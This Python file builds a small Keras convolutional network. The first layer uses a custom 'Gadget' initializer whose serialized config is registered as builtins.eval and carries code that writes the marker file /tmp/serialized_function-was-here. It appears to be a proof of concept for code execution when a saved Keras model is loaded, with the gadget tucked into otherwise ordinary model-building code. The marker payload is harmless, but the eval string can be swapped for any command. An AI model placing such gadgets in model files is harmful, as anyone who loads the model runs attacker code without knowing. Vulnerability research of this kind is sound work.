import keras


@keras.saving.register_keras_serializable("builtins", "eval")
class Gadget(keras.initializers.Initializer):
    def __call__(self, shape, dtype=None):
        return keras.ops.zeros(shape)

    def get_config(self):
        return {"module": "builtins", "class_name": "eval", "config": "open('/tmp/serialized_function-was-here', 'w')", "registered_name": "builtins>eval"}


def build_cnn():
    return keras.Sequential([
        keras.Input((28, 28, 1)),
        keras.layers.Conv2D(64, 3, activation="relu", kernel_initializer=Gadget()),
        keras.layers.Conv2D(32, 3, activation="relu"),
        keras.layers.Flatten(),
        keras.layers.Dense(10, activation="softmax"),
    ])


def reshape_images(images):
    return images[..., None]
